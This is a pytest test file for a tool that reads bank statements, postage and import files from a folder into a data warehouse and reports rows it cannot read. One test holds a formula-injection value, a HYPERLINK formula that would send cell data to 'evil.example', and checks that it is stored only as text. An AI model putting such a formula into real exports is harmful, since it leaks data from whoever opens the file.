"""Files as banks, Excel and people make them: each line lands once, and what cannot be read is told."""

from __future__ import annotations

import json
import os
import shutil
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from connections.connection import Connection
from connections.files import Folder
from connections.warehouse import ensure_raw_tables, rows, session
from counterflow import steps
from counterflow.settings import DEFAULT_PATH
from extractors.base import ResourceCount, extract
from extractors.files import Files

EXAMPLES = Path(__file__).parent / "files"
TABLES = ("bank_statement_lines", "imports", "postage")


@pytest.fixture
def inbox(tmp_path: Path) -> Path:
    return tmp_path / "inbox"


@pytest.fixture
def read(warehouse: Connection, inbox: Path) -> Callable[[], dict[str, ResourceCount]]:
    with session(warehouse) as opened:
        ensure_raw_tables(opened, "files", list(TABLES))
    extractor = Files(lambda: inbox)

    def run() -> dict[str, ResourceCount]:
        found = extract(extractor, Connection.from_env("files"), warehouse, "run")
        return {count.resource: count for count in found}

    return run


@pytest.fixture
def landed(warehouse: Connection) -> Callable[[str], dict[str, Any]]:
    def look(table: str) -> dict[str, Any]:
        with session(warehouse) as opened:
            found = rows(opened, f"select key, payload from raw.files__{table} order by key")
        return {row["key"]: row["payload"] for row in found}

    return look


@pytest.fixture
def open_refusals(warehouse: Connection) -> Callable[[], list[str]]:
    def look() -> list[str]:
        query = "select reason from sync.refused_records where resolved_at is null order by reason"
        with session(warehouse) as opened:
            return [row["reason"] for row in rows(opened, query)]

    return look


def drop(inbox: Path, name: str, content: str | bytes | None = None, *, minutes_ago: int = 0) -> Path:
    """A file of that name is in the folder: one of the examples, or the content."""
    path = inbox / name
    path.parent.mkdir(parents=True, exist_ok=True)
    if content is None:
        shutil.copyfile(EXAMPLES / path.name, path)
    else:
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    moment = time.time() - 60 * minutes_ago
    os.utime(path, (moment, moment))
    return path


def amounts(lines: dict[str, Any]) -> Counter[tuple[str, str]]:
    return Counter((line["date"], line["amount"]) for line in lines.values())


def test_a_folder_that_is_not_there_or_empty_is_nothing_to_read(
    read: Any, landed: Any, inbox: Path, open_refusals: Any
) -> None:
    assert all(count.counts.read == 0 for count in read().values())
    inbox.mkdir()
    drop(inbox, "read me.txt", "The statements go here")
    drop(inbox, ".hidden.csv", "half")
    drop(inbox, "~$postage.csv", "Excel's own")
    assert all(count.counts.read == 0 for count in read().values())
    assert open_refusals() == []


def test_every_example_lands_and_a_second_reading_opens_nothing(read: Any, landed: Any, inbox: Path) -> None:
    for example in EXAMPLES.iterdir():
        drop(inbox, f"{example.stem}/{example.name}" if example.suffix == ".csv" else example.name)
    first = read()
    assert {name: count.counts.written for name, count in first.items()} == {
        "bank_statement_lines": 13,
        "postage": 3,
        "imports": 2,
    }
    again = read()
    assert all((count.counts.read, count.requests) == (0, 0) for count in again.values())
    [tea] = [row for row in landed("imports").values() if row["reference"] == "CCN-10001"]
    assert (tea["cost"], tea["duty_rate"], tea["duty"], tea["gst"]) == ("500.00", "0.065", "32.50", "26.63")
    assert landed("postage")["INV-881-2"]["qst"] == "1.84"


def test_a_french_export_in_windows_1252_with_semicolons(read: Any, landed: Any, inbox: Path) -> None:
    drop(inbox, "caisse.csv")
    read()
    lines = list(landed("bank_statement_lines").values())
    assert amounts(landed("bank_statement_lines")) == {
        ("2026-10-30", "1122.59"): 1,
        ("2026-10-31", "-15.00"): 1,
        ("2026-10-31", "-3.50"): 2,  # two coffees on one day are two
    }
    assert {line["description"] for line in lines} >= {"Café du coin", "Frais de service mensuels"}
    assert {line["currency"] for line in lines} == {"CAD"}


def test_what_excel_saved_with_a_mark_dollar_signs_and_formulas(
    read: Any, landed: Any, inbox: Path, open_refusals: Any
) -> None:
    drop(inbox, "chequing.csv")
    read()
    lines = {line["description"]: line["amount"] for line in landed("bank_statement_lines").values()}
    assert lines == {
        "STRIPE PAYOUT po_1": "1122.59",
        "SERVICE CHARGE October": "-15.00",
        '=HYPERLINK("http://evil.example/?"&A1,"Click")': "-12.00",  # text, and nothing else
        "0012345": "-12.00",
    }
    assert open_refusals() == []


def test_utf_16_with_tabs_and_days_with_months_in_words(read: Any, landed: Any, inbox: Path) -> None:
    text = "Date\tDetails\tWithdrawals ($)\tDeposits ($)\r\n1er août 2026\tBail\t1 800,00\r\n"
    drop(inbox, "tabs.csv", text.encode("utf-16"))
    drop(inbox, "words.csv", "Date,Memo,Type,Amount\nOct 3, 2026,,,\n")
    drop(inbox, "word.csv", 'Date,Memo,Type,Amount\n"Oct 3, 2026",Rent,Debit,1800.00\n')
    read()
    assert amounts(landed("bank_statement_lines")) == {
        ("2026-08-01", "-1800.00"): 1,
        ("2026-10-03", "-1800.00"): 1,
    }


def test_the_two_versions_of_ofx_overlap_and_one_bad_transaction_is_told(
    read: Any, landed: Any, inbox: Path, open_refusals: Any
) -> None:
    drop(inbox, "october.qfx")
    drop(inbox, "november.ofx")
    counts = read()["bank_statement_lines"].counts
    assert (counts.written, counts.unchanged, counts.refused) == (5, 1, 1)
    lines = landed("bank_statement_lines")
    assert amounts(lines) == {
        ("2026-10-30", "122.59"): 1,
        ("2026-10-31", "-15.00"): 1,
        ("2026-10-31", "-3.50"): 2,
        ("2026-11-03", "5.00"): 1,
    }
    assert {line["description"] for line in lines.values()} >= {"CAFÉ & THÉ", "STRIPE PAYOUT po_1"}
    assert open_refusals() == [
        "november.ofx, transaction 3 of account …4567: column TRNAMT:"
        ' "twelve" is no amount that can be read in one way only. Write 1234.56'
    ]


def test_an_ofx_that_is_still_written_waits_and_one_that_stays_cut_off_is_refused(
    read: Any, landed: Any, inbox: Path, open_refusals: Any
) -> None:
    whole = (EXAMPLES / "october.qfx").read_bytes()
    drop(inbox, "october.qfx", whole[:1000])
    assert read()["bank_statement_lines"].counts.read == 0
    assert open_refusals() == []
    drop(inbox, "october.qfx", whole[:1000], minutes_ago=30)
    read()
    assert open_refusals() == [
        "october.qfx: it ends before its last line, </OFX>. Download it from the bank again"
    ]
    drop(inbox, "october.qfx", whole)
    read()
    assert len(landed("bank_statement_lines")) == 4
    assert open_refusals() == []


def test_a_csv_without_a_last_newline_waits_a_while(read: Any, landed: Any, inbox: Path) -> None:
    text = "Date,Description,Amount\n2026-10-31,SERVICE CHARGE,-15.00"
    drop(inbox, "bank.csv", text[:-1])
    read()
    assert landed("bank_statement_lines") == {}
    drop(inbox, "bank.csv", text, minutes_ago=11)
    read()
    assert amounts(landed("bank_statement_lines")) == {("2026-10-31", "-15.00"): 1}


def test_a_file_that_is_written_to_while_it_is_read_waits(inbox: Path) -> None:
    path = drop(inbox, "bank.csv", "Date,Description,Amount\n")
    [file] = Folder(inbox).files()
    path.write_text("Date,Description,Amount\n2026-10-31,SERVICE CHARGE,-15.00\n")
    assert Folder(inbox).read(file) is None


def test_rows_that_cannot_be_read_are_told_and_the_rest_goes_on(
    read: Any, landed: Any, inbox: Path, open_refusals: Any
) -> None:
    text = (
        "reference,date,amount,gst,hst,hst_province\n"
        "A,2026-11-02,10.00,0.50,,\n"
        ",2026-11-02,10.00,,,\n"
        "B,03/04/2026,10.00,,,\n"
        'C,2026-11-02,"1,234",,,\n'
        "D,2026-11-02,10.00,,1.30,\n"
        "E,2026-11-02,1,234.00,,,\n"
        "A,2026-11-03,11.00,,,\n"
        "F,2026-02-30,10.00,,,\n"
    )
    drop(inbox, "postage.csv", text)
    drop(inbox, "Imports old.csv", "when,what\n1,2\n")
    read()
    assert landed("postage").keys() == {"A"}
    assert [reason.removeprefix("postage.csv, ") for reason in open_refusals()] == [
        "Imports old.csv: no line of it names the columns reference, date, cost."
        " See docs/files.md for what the columns are called",
        "line 3: column reference is empty. Fill it in",
        'line 4: column date: "03/04/2026" is no day that can be read in one way only. Write 2026-10-31',
        'line 5: column amount: "1,234" is no amount that can be read in one way only. Write 1234.56',
        "line 6: column hst province does not say whose HST it is. Write one of NB, NL, NS, ON, PE",
        "line 7: it has more cells than the header has columns."
        " Put a cell that contains the separator in quotation marks; remove separators at the row's end",
        "line 8: column reference has the reference of line 2 again. Give each row a reference of its own",
        'line 9: column date: "2026-02-30" is no day that can be read in one way only. Write 2026-10-31',
    ]
    # corrected and saved again: what was wrong is so no more
    drop(inbox, "postage.csv", text.replace("03/04/2026", "2026-04-03").replace("2026-02-30", "2026-02-28"))
    (inbox / "Imports old.csv").unlink()
    read()
    assert landed("postage").keys() == {"A", "B", "F"}
    assert len(open_refusals()) == 5


def test_a_later_file_replaces_a_reference_and_an_older_one_does_not(
    read: Any, landed: Any, inbox: Path
) -> None:
    header = "reference,date,amount\n"
    drop(inbox, "postage b.csv", header + "A,2026-11-02,12.00\n", minutes_ago=5)
    read()
    drop(inbox, "postage a.csv", header + "A,2026-11-02,10.00\n", minutes_ago=60)
    read()
    assert landed("postage")["A"]["amount"] == "12.00"
    drop(inbox, "postage c.csv", header + "A,2026-11-02,13.00\n", minutes_ago=1)
    (inbox / "postage b.csv").unlink()
    read()
    assert landed("postage")["A"]["amount"] == "13.00"


def test_a_file_of_another_name_or_time_with_the_same_lines_changes_nothing(
    read: Any, landed: Any, inbox: Path
) -> None:
    drop(inbox, "caisse.csv", minutes_ago=60)
    read()
    before = landed("bank_statement_lines")
    drop(inbox, "caisse.csv")
    drop(inbox, "copy of caisse.csv", (EXAMPLES / "caisse.csv").read_bytes())
    counts = read()["bank_statement_lines"].counts
    assert (counts.read, counts.written) == (4, 0)
    assert landed("bank_statement_lines") == before


def test_one_fitid_for_two_transactions_does_not_lose_the_second_in_silence(
    read: Any, landed: Any, inbox: Path, open_refusals: Any
) -> None:
    text = (EXAMPLES / "october.qfx").read_bytes().replace(b"31D00015001AA", b"31D00003501AA")
    drop(inbox, "october.qfx", text)
    read()
    assert len(landed("bank_statement_lines")) == 3
    [reason] = open_refusals()
    assert "is there twice, for two different ones" in reason


def test_a_subfolder_keeps_the_lines_of_two_accounts_apart(read: Any, landed: Any, inbox: Path) -> None:
    text = "Date,Description,Amount\n2026-10-31,SERVICE CHARGE,-15.00\n"
    drop(inbox, "chequing/october.csv", text)
    drop(inbox, "savings/october.csv", text)
    read()
    assert {line["account"] for line in landed("bank_statement_lines").values()} == {"chequing", "savings"}
    assert len(landed("bank_statement_lines")) == 2


def test_the_settings_name_the_folder_unless_the_connection_does(
    warehouse: Connection, landed: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "settings.toml"
    text = DEFAULT_PATH.read_text()
    path.write_text(text.replace("\non = [", '\non = ["files", '))
    monkeypatch.setenv("COUNTERFLOW_SETTINGS", str(path))
    steps.prepare("run")
    assert all(count.counts.read == 0 for count in steps.extract("files", "run"))
    drop(tmp_path / "inbox", "caisse.csv")
    steps.extract("files", "run")
    assert len(landed("bank_statement_lines")) == 4
    drop(tmp_path / "elsewhere", "imports-2026.csv")
    monkeypatch.setenv("AIRFLOW_CONN_FILES", json.dumps({"extra": {"folder": str(tmp_path / "elsewhere")}}))
    steps.extract("files", "run")
    assert len(landed("imports")) == 2
